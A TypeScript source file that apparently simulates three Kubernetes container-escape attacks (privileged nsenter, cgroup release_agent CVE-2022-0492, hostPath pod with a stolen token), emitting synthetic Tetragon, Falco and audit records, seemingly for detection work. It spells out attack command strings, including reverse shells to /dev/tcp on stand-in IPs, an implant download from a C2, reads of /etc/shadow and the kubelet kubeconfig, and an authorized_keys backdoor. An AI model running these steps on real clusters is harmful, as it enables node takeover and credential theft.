/** Container escape: from inside a container to the node it runs on. */

import type { K8sIdentity, Node, Pod } from '../model.js';
import type { FalcoAlertSpec } from '../records/falco.js';
import { execIdOf, processExit, shimOf, type SimProcess } from '../records/tetragon.js';
import type { AttackScenario, ScenarioContext } from '../scenario.js';
import { Script } from '../script.js';
import { auditWithReason, containerdOf, kubeletOf, patchLast, podOn, podSuffix, startContainer } from '../cluster-ops.js';

// ---- shared steps

/** The node's systemd (pid 1): what starts services on the host. */
function systemdOf(node: Node): SimProcess {
  return { execId: execIdOf(node, node.bootMs, 1), pid: 1, binary: '/usr/lib/systemd/systemd', args: '--switched-root --system --deserialize 21', cwd: '/', uid: 0, startMs: node.bootMs, node };
}

/** kthreadd: the parent of the kernel's user-mode helpers (a cgroup's release agent, modprobe). */
function kthreaddOf(node: Node): SimProcess {
  return { execId: execIdOf(node, node.bootMs, 2), pid: 2, binary: 'kthreadd', args: '', cwd: '/', uid: 0, startMs: node.bootMs, node };
}

/** The shim of a pod's container, with containerd above it. */
function shimWithParent(pod: Pod): SimProcess {
  return { ...shimOf(pod), parent: containerdOf(pod.node) };
}

/** `kubectl exec -it` as the node sees it: runc joins the container and starts the shell. */
function execShell(s: Script, ctx: ScenarioContext, pod: Pod, seconds: number, shell: string, cwd: string): { runc: SimProcess; shell: SimProcess } {
  const runc = s.exec(shimWithParent(pod), seconds, '/usr/bin/runc', `--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${ctx.random.int(100_000_000, 999_999_999)} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}/${ctx.random.hex(64)}.pid ${pod.containerId}`, { uid: 0 });
  const sh = s.exec(runc, seconds + 0.2, shell, '', { pod, uid: 0, cwd });
  s.falco(sh, seconds + 0.25, TERMINAL_SHELL);
  return { runc, shell: sh };
}

/** A command typed into a shell: it starts, optionally reads files, and exits. */
function run(s: Script, shell: SimProcess, seconds: number, binary: string, args: string, reads: readonly string[] = [], took = 0.05): SimProcess {
  const p = s.exec(shell, seconds, binary, args);
  reads.forEach((path, i) => s.read(p, seconds + 0.005 + i * 0.002, path));
  s.exit(p, seconds + took);
  return p;
}

/** A container's first process ended by a signal (the pod deleted). */
function killed(s: Script, p: SimProcess, seconds: number, signal = 'SIGTERM'): void {
  const t = s.at(seconds);
  s.out.push({ source: 'tetragon', timeMs: t, stream: p.node.name, record: processExit(p, t, 0, signal) });
}

const TERMINAL_SHELL: FalcoAlertSpec = {
  rule: 'Terminal shell in container',
  fields: { 'evt.type': 'execve', 'proc.tty': 34816, 'evt.arg.flags': 'EXE_LOWER_LAYER' },
};

function shadowRead(ancestors: readonly [string, string, string]): FalcoAlertSpec {
  return {
    rule: 'Read sensitive file untrusted',
    fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'proc.aname[2]': ancestors[0], 'proc.aname[3]': ancestors[1], 'proc.aname[4]': ancestors[2], 'proc.tty': 34816 },
  };
}

/** Linux namespace flags, as setns/unshare take them. */
const CLONE_NEWNS = 0x20000;
const CLONE_NEWCGROUP = 0x2000000;
const CLONE_NEWUTS = 0x4000000;
const CLONE_NEWIPC = 0x8000000;
const CLONE_NEWUSER = 0x10000000;
const CLONE_NEWPID = 0x20000000;
const CLONE_NEWNET = 0x40000000;

// ---- variant 1: a privileged pod, then nsenter into PID 1's namespaces

const NSENTER_ATTACKER_IP = '198.51.100.92';
const C2 = '198.51.100.88';
const NETSHOOT = 'docker.io/nicolaka/netshoot:v0.12';

/**
 * A developer's stolen kubeconfig creates a privileged debug-looking pod sharing the node's PID
 * and network namespaces; a shell in it enters PID 1's namespaces with nsenter and installs a
 * systemd service on the node that calls home.
 */
const privilegedNsenter: AttackScenario = {
  kind: 'attack',
  id: 'container-escape-privileged-nsenter',
  intent: 'container-escape',
  title: 'Privileged pod and nsenter into the node, systemd backdoor',
  description:
    'dev-carol@acme.io\'s kubeconfig, stolen from her laptop, is used from an unknown address: the intruder lists pods in shop (nodes and kube-system are refused), creates the pod shop/storefront-debug from the netshoot image with privileged: true, hostPID and hostNetwork, and opens a shell in it with kubectl exec. From there `nsenter -t 1 -m -u -i -n -p -- bash` joins the node\'s namespaces (five setns calls); the host shell reads /etc/shadow and the kubelet\'s kubeconfig, downloads an implant to /usr/local/bin/kubelet-hc, writes /etc/systemd/system/kubelet-hc.service and enables it. systemd starts the implant as a host process, which beacons to its C2 over HTTPS about once a minute, and keeps doing so after the intruder deletes the pod.',
  techniques: ['T1078.004', 'T1610', 'T1609', 'T1611', 'T1003.008', 'T1105', 'T1543.002', 'T1036.005', 'T1071.001'],
  durationMs: 22 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const carol = env.admins.find((a) => a.username === 'dev-carol@acme.io') ?? env.admins[0];
    if (carol === undefined) throw new Error('the environment has no developer identity');
    const intruder: K8sIdentity = { ...carol, userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625', sourceIps: [NSENTER_ATTACKER_IP] };
    const refused = (sec: number, resource: string, namespace?: string): void => {
      auditWithReason(s, intruder, sec, { verb: 'list', resource, ...(namespace === undefined ? {} : { namespace }), code: 403 }, '');
    };
    const asCarol = (sec: number, q: Parameters<Script['audit']>[2]): void => auditWithReason(s, intruder, sec, q, 'RBAC: allowed by RoleBinding "developers/shop" of ClusterRole "edit" to Group "developers"');

    asCarol(0, { verb: 'list', resource: 'pods', namespace: 'shop' });
    refused(7, 'nodes');
    refused(12, 'pods', 'kube-system');

    // The pod: named like a debugging aid, everything the node has to give.
    const node = r.pick(env.nodes);
    const podName = 'storefront-debug';
    const podSpec = {
      containers: [{ name: 'debug', image: NETSHOOT, command: ['sleep', 'infinity'], resources: {}, securityContext: { privileged: true }, terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' }],
      hostPID: true, hostNetwork: true, restartPolicy: 'Never', dnsPolicy: 'ClusterFirst', terminationGracePeriodSeconds: 30, schedulerName: 'default-scheduler', securityContext: {},
    };
    const tCreate = 50 + r.int(0, 30);
    asCarol(tCreate, {
      verb: 'create', resource: 'pods', namespace: 'shop',
      requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: podName, namespace: 'shop', creationTimestamp: null, labels: { run: podName } }, spec: podSpec, status: {} },
      responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: podName, namespace: 'shop', uid: r.uuid(), labels: { run: podName } }, spec: { ...podSpec, serviceAccountName: 'default' }, status: { phase: 'Pending', qosClass: 'BestEffort' } },
    });
    const scheduler = env.controllers[1];
    if (scheduler !== undefined) s.audit(scheduler, tCreate + 0.03, { verb: 'create', resource: 'pods', namespace: 'shop', name: podName, subresource: 'binding' });
    const tStart = tCreate + 4 + r.next() * 5;
    s.audit(kubeletOf(env, node), tStart + 0.7, { verb: 'patch', resource: 'pods', namespace: 'shop', name: podName, subresource: 'status' });
    const pod = podOn(ctx, node, {
      name: podName, namespace: 'shop', workload: podName, kind: 'Pod', image: NETSHOOT, container: 'debug', serviceAccount: 'default',
      main: { binary: '/bin/sleep', args: 'infinity' }, uid: 0, privileged: true, hostNetwork: true, labels: { run: podName },
    }, s.at(tStart));
    const sleep = startContainer(s, pod);

    // kubectl exec -it … -- bash
    const tExec = tStart + 25 + r.int(0, 20);
    asCarol(tExec, { verb: 'create', resource: 'pods', namespace: 'shop', name: podName, subresource: 'exec', query: 'command=bash&container=debug&stdin=true&stdout=true&tty=true' });
    const { runc, shell: bash } = execShell(s, ctx, pod, tExec + 0.3, '/bin/bash', '/root');
    let t = tExec + 8;
    run(s, bash, t, '/usr/bin/id', '');
    run(s, bash, (t += 6), '/bin/ps', '-ef', [], 0.2);

    // Into PID 1's namespaces: nsenter opens /proc/1/ns/* and joins them one by one.
    t += 21;
    const nsenter = s.exec(bash, t, '/usr/bin/nsenter', '-t 1 -m -u -i -n -p -- bash');
    [CLONE_NEWIPC, CLONE_NEWUTS, CLONE_NEWNET, CLONE_NEWPID, CLONE_NEWNS].forEach((flag, i) => {
      s.kprobe(nsenter, t + 0.001 + i * 0.0004, '__x64_sys_setns', [{ int_arg: 3 + i }, { int_arg: flag }], 'namespace-access', { int_arg: 0 });
    });
    // The host's bash (its path on the node), still in the container's cgroup as Tetragon sees it.
    const host = s.exec(nsenter, t + 0.004, '/usr/bin/bash', '', { cwd: '/' });
    run(s, host, (t += 12), '/usr/bin/hostname', '');
    const cat = run(s, host, (t += 9), '/usr/bin/cat', '/etc/shadow', ['/etc/shadow']);
    s.falco(cat, t + 0.005, shadowRead(['nsenter', 'bash', 'runc']));
    run(s, host, (t += 24), '/usr/bin/ls', '/etc/kubernetes /var/lib/kubelet');
    run(s, host, (t += 8), '/usr/bin/cat', '/var/lib/kubelet/kubeconfig', ['/var/lib/kubelet/kubeconfig']);

    // The implant, installed as a service named like a kubelet helper.
    t += 35;
    const curl = s.exec(host, t, '/usr/bin/curl', `-fsSL -o /usr/local/bin/kubelet-hc https://${C2}/d/hc`);
    s.connect(curl, t + 0.05, C2, 443);
    s.open(curl, t + 0.4, '/usr/local/bin/kubelet-hc', 5);
    s.write(curl, t + 0.9, '/usr/local/bin/kubelet-hc');
    s.exit(curl, t + 1.6);
    run(s, host, (t += 7), '/usr/bin/chmod', '755 /usr/local/bin/kubelet-hc');
    t += 16;
    const unit = s.exec(host, t, '/usr/bin/cat', '');
    s.open(unit, t + 0.001, '/etc/systemd/system/kubelet-hc.service', 1);
    s.write(unit, t + 9, '/etc/systemd/system/kubelet-hc.service');
    s.exit(unit, t + 9.1);
    run(s, host, (t += 14), '/usr/bin/systemctl', 'daemon-reload', [], 0.4);
    run(s, host, (t += 6), '/usr/bin/systemctl', 'enable --now kubelet-hc.service', [], 0.9);
    const implant = s.exec(systemdOf(node), t + 0.7, '/usr/local/bin/kubelet-hc', '--interval 60');
    s.read(implant, t + 0.75, '/etc/machine-id');
    let tb = t + 1.2;
    for (let k = 0; k < 12; k++) {
      s.connect(implant, tb, C2, 443);
      tb += 45 + r.int(0, 30);
    }

    // Leaving: history cleared (a builtin), shells closed, the pod deleted.
    t += 22;
    s.exit(host, t);
    s.exit(nsenter, t + 0.01);
    s.exit(bash, t + 4);
    s.exit(runc, t + 4.1);
    const tDelete = t + 20 + r.int(0, 20);
    asCarol(tDelete, { verb: 'delete', resource: 'pods', namespace: 'shop', name: podName });
    killed(s, sleep, tDelete + 0.6);
    s.audit(kubeletOf(env, node), tDelete + 1.4, { verb: 'patch', resource: 'pods', namespace: 'shop', name: podName, subresource: 'status' });
    return s.out;
  },
};

// ---- variant 2: the cgroup v1 release_agent from an unprivileged container (CVE-2022-0492)

const LOG4J_ATTACKER_IP = '198.51.100.17';

/**
 * A JNDI injection in the search service (java) gives a reverse shell; the intruder creates user,
 * mount and cgroup namespaces with unshare, mounts the rdma cgroup hierarchy, points its
 * release_agent at a script in the container's overlay upper directory and empties the cgroup:
 * the kernel runs the script as root on the node, which calls back with a host shell.
 */
const cgroupReleaseAgent: AttackScenario = {
  kind: 'attack',
  id: 'container-escape-cgroup-release-agent',
  intent: 'container-escape',
  title: 'cgroup release_agent escape (CVE-2022-0492) from an exploited Java service',
  description:
    'A Log4Shell-style lookup in a search query makes the search service (java, uid 1000) fetch a class from the attacker and run `bash -c {echo,…}|{base64,-d}|{bash,-i}`, a reverse shell to port 443. The intruder checks its identity, kernel and capabilities, runs `unshare -UrmC` to become root in new user, mount and cgroup namespaces (allowed on a node kernel without the CVE-2022-0492 fix), mounts the cgroup v1 rdma hierarchy on /tmp/cgrp, sets notify_on_release, writes the container\'s overlay upper directory path + /tmp/.x/cmd into release_agent, writes that script and moves a short-lived shell into the child cgroup. When it exits, the kernel runs the script as root in the node\'s namespaces: it lists the node\'s processes into the container and starts a reverse shell to port 8443, in which the intruder reads /etc/shadow and the kubelet\'s kubeconfig, lists containers and adds a cron job for persistence.',
  techniques: ['T1190', 'T1059.004', 'T1095', 'T1068', 'T1611', 'T1003.008', 'T1552.001', 'T1053.003'],
  durationMs: 10 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const r = ctx.random;
    const pod = s.pod('search');
    const java = s.main(pod);
    const node = pod.node;
    const reverse = `bash -i >& /dev/tcp/${LOG4J_ATTACKER_IP}/443 0>&1`;

    // The lookup: LDAP referral, class download, then the command.
    s.connect(java, 0, LOG4J_ATTACKER_IP, 1389);
    s.connect(java, 0.35, LOG4J_ATTACKER_IP, 8080);
    const dropper = s.exec(java, 0.6, '/bin/bash', `-c {echo,${Buffer.from(reverse).toString('base64')}}|{base64,-d}|{bash,-i}`);
    run(s, dropper, 0.61, '/usr/bin/base64', '-d', [], 0.005);
    const reader = s.exec(dropper, 0.61, '/bin/bash', '-i');
    s.connect(reader, 0.63, LOG4J_ATTACKER_IP, 443);
    const sh = s.exec(reader, 0.64, '/bin/bash', '-i');

    // Looking around.
    let t = 9 + r.int(0, 6);
    run(s, sh, t, '/usr/bin/id', '');
    run(s, sh, (t += 7), '/usr/bin/uname', '-a');
    run(s, sh, (t += 12), '/bin/grep', 'Cap /proc/self/status', ['/proc/self/status']);
    run(s, sh, (t += 10), '/bin/cat', '/proc/1/cgroup', ['/proc/1/cgroup']);
    run(s, sh, (t += 14), '/bin/cat', '/proc/sys/kernel/unprivileged_userns_clone', ['/proc/sys/kernel/unprivileged_userns_clone']);

    // Root in new user, mount and cgroup namespaces.
    t += 25;
    const unshare = s.exec(sh, t, '/usr/bin/unshare', '-UrmC --fork --propagation unchanged bash');
    s.kprobe(unshare, t + 0.002, '__x64_sys_unshare', [{ int_arg: CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP }], 'namespace-access', { int_arg: 0 });
    const ns = s.exec(unshare, t + 0.01, '/bin/bash', '');

    // The release_agent setup.
    const upper = `/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/${r.int(300, 4000)}/fs`;
    run(s, ns, (t += 11), '/bin/mkdir', '/tmp/cgrp');
    t += 6;
    const mount = s.exec(ns, t, '/bin/mount', '-t cgroup -o rdma cgroup /tmp/cgrp');
    s.kprobe(mount, t + 0.003, '__x64_sys_mount', [{ string_arg: 'cgroup' }, { string_arg: '/tmp/cgrp' }, { string_arg: 'cgroup' }, { int_arg: 0 }, { string_arg: 'rdma' }], 'mount-monitoring', { int_arg: 0 });
    s.exit(mount, t + 0.01);
    run(s, ns, (t += 6), '/bin/mkdir', '/tmp/cgrp/x');
    s.write(ns, (t += 9), '/tmp/cgrp/x/notify_on_release');
    run(s, ns, (t += 14), '/bin/sed', "-n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab", ['/etc/mtab']);
    s.write(ns, (t += 18), '/tmp/cgrp/release_agent');
    s.falco(ns, t + 0.001, {
      rule: 'Detect release_agent File Container Escapes',
      fields: { 'evt.type': 'openat', 'fd.name': '/tmp/cgrp/release_agent', 'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP', 'proc.tty': 0 },
    });
    run(s, ns, (t += 13), '/bin/mkdir', '-p /tmp/.x');
    s.write(ns, (t += 5), '/tmp/.x/cmd');
    run(s, ns, (t += 5), '/bin/chmod', 'a+x /tmp/.x/cmd');

    // Empty the cgroup: a shell joins it and exits.
    t += 14;
    const trigger = s.exec(ns, t, '/bin/sh', '-c "echo \\$\\$ > /tmp/cgrp/x/cgroup.procs"');
    s.write(trigger, t + 0.002, '/tmp/cgrp/x/cgroup.procs');
    s.exit(trigger, t + 0.004);

    // The kernel runs the release agent on the node, as root.
    const agentPath = `${upper}/tmp/.x/cmd`;
    const agent = s.exec(kthreaddOf(node), t + 0.02, agentPath, agentPath, { uid: 0 });
    run(s, agent, t + 0.025, '/usr/bin/ps', 'aux', [], 0.06);
    s.write(agent, t + 0.085, `${upper}/tmp/.x/out`);
    const back = s.exec(agent, t + 0.09, '/bin/bash', `-c "bash -i >& /dev/tcp/${LOG4J_ATTACKER_IP}/8443 0>&1"`);
    s.connect(back, t + 0.1, LOG4J_ATTACKER_IP, 8443);
    const root = s.exec(back, t + 0.11, '/bin/bash', '-i');
    s.exit(agent, t + 0.12);
    run(s, ns, t + 6, '/bin/cat', '/tmp/.x/out', ['/tmp/.x/out']);

    // Root on the node.
    let th = t + 24;
    run(s, root, th, '/usr/bin/id', '');
    run(s, root, (th += 5), '/usr/bin/hostname', '');
    const shadow = run(s, root, (th += 13), '/usr/bin/cat', '/etc/shadow', ['/etc/shadow']);
    s.falco(shadow, th + 0.005, shadowRead(['bash', 'cmd', 'kthreadd']));
    run(s, root, (th += 21), '/usr/bin/cat', '/var/lib/kubelet/kubeconfig', ['/var/lib/kubelet/kubeconfig']);
    run(s, root, (th += 17), '/usr/bin/crictl', 'ps', [], 0.3);
    th += 40;
    s.write(root, th, '/etc/cron.d/kube-logrotate');
    s.exit(root, (th += 30));
    s.exit(back, th + 0.01);

    // Tidying up in the container.
    run(s, ns, th + 12, '/bin/umount', '/tmp/cgrp');
    run(s, ns, th + 16, '/bin/rm', '-rf /tmp/.x /tmp/cgrp');
    s.exit(ns, th + 20);
    s.exit(unshare, th + 20.01);
    s.exit(sh, th + 24);
    s.exit(reader, th + 24.01);
    s.exit(dropper, th + 24.02);
    return s.out;
  },
};

// ---- variant 3: a stolen service-account token, a pod mounting the node's /

const TOKEN_ATTACKER_IP = '203.0.113.214';

/**
 * The orders API's service-account token is read through a template injection and used from
 * outside: the account may create pods in its namespace (it launches export jobs), which is
 * enough to mount the node's root filesystem and take the node.
 */
const hostPathPod: AttackScenario = {
  kind: 'attack',
  id: 'container-escape-hostpath-pod',
  intent: 'container-escape',
  title: "Stolen service-account token creates a pod mounting the node's root filesystem",
  description:
    'A server-side template injection in orders-api (python) runs `sh -c id`, then `cat` of the pod\'s service-account token. From an outside address, kubectl with that token (the audit log shows the pod it was issued to) lists what it may do in shop, lists pods (nodes and secrets are refused), and creates the pod shop/orders-export-… from the orders-api image as root with a hostPath volume of the node\'s / at /host, pinned to the node that runs payments. In a kubectl exec shell the intruder reads the kubelet\'s kubeconfig and client certificate under /host, appends an SSH key to /host/root/.ssh/authorized_keys and chroots into /host to list the node\'s containers. With the kubelet\'s certificate it then calls the API as the node from its own address: pods on the node, a secret of the payments pod (allowed by the node authorizer) and one of another node\'s pod (refused). It deletes the export pod at the end.',
  techniques: ['T1190', 'T1528', 'T1550.001', 'T1613', 'T1610', 'T1609', 'T1611', 'T1552.001', 'T1552.004', 'T1098.004'],
  durationMs: 26 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const app = s.pod('orders-api');
    const server = s.main(app);
    const tokenDir = `/run/secrets/kubernetes.io/serviceaccount/..${new Date(ctx.startMs - r.int(1, 40) * 3_600_000).toISOString().slice(0, 19).replace(/[-:T]/g, '_')}.${r.int(100_000_000, 999_999_999)}`;

    // The injection: a probe, then the token.
    const probe = s.exec(server, 0, '/bin/sh', '-c id');
    run(s, probe, 0.002, '/usr/bin/id', '');
    s.exit(probe, 0.01);
    const steal = s.exec(server, 38 + r.int(0, 20), '/bin/sh', '-c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"');
    const tSteal = (steal.startMs - ctx.startMs) / 1000;
    run(s, steal, tSteal + 0.002, '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token', [`${tokenDir}/token`]);
    s.exit(steal, tSteal + 0.01);

    // The token, from outside. Bound tokens carry the pod they were issued to.
    const sa = app.workload.serviceAccount;
    const ns = app.workload.namespace;
    const thief: K8sIdentity = {
      username: `system:serviceaccount:${ns}:${sa}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
      userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625', sourceIps: [TOKEN_ATTACKER_IP], hours: [0, 24], weekends: true,
    };
    const extra = {
      'authentication.kubernetes.io/credential-id': [`JTI=${r.uuid()}`],
      'authentication.kubernetes.io/node-name': [app.node.name],
      'authentication.kubernetes.io/node-uid': [r.uuid()],
      'authentication.kubernetes.io/pod-name': [app.name],
      'authentication.kubernetes.io/pod-uid': [app.uid],
    };
    const binding = `RBAC: allowed by RoleBinding "orders-api-job-launcher/${ns}" of Role "job-launcher" to ServiceAccount "${sa}/${ns}"`;
    const asThief = (sec: number, q: Parameters<Script['audit']>[2], reason = binding): void => {
      auditWithReason(s, thief, sec, q, q.code === 403 ? '' : reason);
      patchLast(s, (record) => {
        (record['user'] as Record<string, unknown>)['extra'] = extra;
      });
    };
    let t = tSteal + 300 + r.int(0, 200);
    asThief(t, { verb: 'create', resource: 'selfsubjectrulesreviews', group: 'authorization.k8s.io', requestObject: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { namespace: ns }, status: { resourceRules: null, nonResourceRules: null, incomplete: false } }, responseObject: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { namespace: ns }, status: { resourceRules: [{ verbs: ['create'], apiGroups: ['authorization.k8s.io'], resources: ['selfsubjectaccessreviews', 'selfsubjectrulesreviews'] }, { verbs: ['get', 'list', 'create', 'delete'], apiGroups: [''], resources: ['pods', 'pods/exec', 'pods/log'] }], nonResourceRules: [{ verbs: ['get'], nonResourceURLs: ['/api', '/api/*', '/apis', '/apis/*', '/healthz', '/version'] }], incomplete: false } } }, 'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" to Group "system:authenticated"');
    asThief((t += 8), { verb: 'list', resource: 'pods', namespace: ns });
    asThief((t += 6), { verb: 'list', resource: 'nodes', code: 403 });
    asThief((t += 5), { verb: 'list', resource: 'secrets', namespace: ns, code: 403 });

    // The pod: the app's own image, as root, the node's / mounted, on the payments node.
    const target = s.pod('payments').node;
    const podName = `orders-export-${podSuffix(ctx)}`;
    const image = app.workload.image;
    const spec = {
      nodeName: target.name,
      containers: [{ name: 'export', image, command: ['sleep', '86400'], resources: {}, securityContext: { runAsUser: 0 }, volumeMounts: [{ name: 'data', mountPath: '/host' }], terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' }],
      volumes: [{ name: 'data', hostPath: { path: '/', type: '' } }],
      restartPolicy: 'Never', dnsPolicy: 'ClusterFirst', terminationGracePeriodSeconds: 30, schedulerName: 'default-scheduler', securityContext: {},
    };
    t += 70 + r.int(0, 40);
    asThief(t, {
      verb: 'create', resource: 'pods', namespace: ns,
      requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: podName, namespace: ns, creationTimestamp: null, labels: { app: 'orders-export' } }, spec, status: {} },
      responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: podName, namespace: ns, uid: r.uuid(), labels: { app: 'orders-export' } }, spec: { ...spec, serviceAccountName: 'default' }, status: { phase: 'Pending', qosClass: 'BestEffort' } },
    });
    const tStart = t + 2 + r.next() * 2;
    s.audit(kubeletOf(env, target), tStart + 0.6, { verb: 'patch', resource: 'pods', namespace: ns, name: podName, subresource: 'status' });
    const pod = podOn(ctx, target, {
      name: podName, namespace: ns, workload: podName, kind: 'Pod', image, container: 'export', serviceAccount: 'default',
      main: { binary: '/bin/sleep', args: '86400' }, uid: 0, privileged: false, hostNetwork: false, labels: { app: 'orders-export' },
    }, s.at(tStart));
    const sleep = startContainer(s, pod, '/app');

    // kubectl exec -it … -- sh
    t = tStart + 30 + r.int(0, 15);
    asThief(t, { verb: 'create', resource: 'pods', namespace: ns, name: podName, subresource: 'exec', query: 'command=sh&container=export&stdin=true&stdout=true&tty=true' });
    const { runc, shell } = execShell(s, ctx, pod, t + 0.3, '/bin/sh', '/app');
    const pem = `/host/var/lib/kubelet/pki/kubelet-client-${new Date(target.bootMs).toISOString().slice(0, 19).replace(/[T:]/g, '-')}.pem`;
    run(s, shell, (t += 9), '/bin/ls', '/host');
    run(s, shell, (t += 14), '/bin/ls', '-la /host/var/lib/kubelet/pki');
    run(s, shell, (t += 11), '/bin/cat', '/host/var/lib/kubelet/kubeconfig', ['/host/var/lib/kubelet/kubeconfig']);
    run(s, shell, (t += 19), '/bin/cat', '/host/var/lib/kubelet/pki/kubelet-client-current.pem', [pem]);
    run(s, shell, (t += 33), '/bin/mkdir', '-p /host/root/.ssh');
    s.write(shell, (t += 12), '/host/root/.ssh/authorized_keys');
    t += 20;
    const chroot = s.exec(shell, t, '/usr/sbin/chroot', '/host /bin/bash');
    const bash = s.exec(chroot, t + 0.005, '/bin/bash', '', { cwd: '/' });
    run(s, bash, (t += 10), '/usr/bin/crictl', 'ps', [], 0.3);
    run(s, bash, (t += 16), '/usr/bin/systemctl', 'is-active sshd', [], 0.1);
    s.exit(bash, (t += 9));
    s.exit(chroot, t + 0.01);
    s.exit(shell, (t += 6));
    s.exit(runc, t + 0.1);

    // The kubelet's identity, from outside: what the node may read.
    const node: K8sIdentity = { ...kubeletOf(env, target), userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625', sourceIps: [TOKEN_ATTACKER_IP] };
    t += 240 + r.int(0, 120);
    auditWithReason(s, node, t, { verb: 'list', resource: 'pods', query: `fieldSelector=spec.nodeName%3D${target.name}&limit=500` }, '');
    const payments = s.pod('payments');
    auditWithReason(s, node, (t += 21), { verb: 'get', resource: 'secrets', namespace: payments.workload.namespace, name: `${payments.workload.name}-db-credentials` }, '');
    const elsewhere = env.pods.find((p) => p.node !== target && p.workload.kind !== 'DaemonSet');
    if (elsewhere !== undefined) {
      auditWithReason(s, node, (t += 9), { verb: 'get', resource: 'secrets', namespace: elsewhere.workload.namespace, name: `${elsewhere.workload.name}-db-credentials`, code: 403 }, `no relationship found between node '${target.name}' and this object`);
    }

    // Cleaning up.
    t += 60 + r.int(0, 60);
    asThief(t, { verb: 'delete', resource: 'pods', namespace: ns, name: podName });
    killed(s, sleep, t + 0.5);
    s.audit(kubeletOf(env, target), t + 1.2, { verb: 'patch', resource: 'pods', namespace: ns, name: podName, subresource: 'status' });
    return s.out;
  },
};

export const CONTAINER_ESCAPE: readonly AttackScenario[] = [privilegedNsenter, cgroupReleaseAgent, hostPathPod];
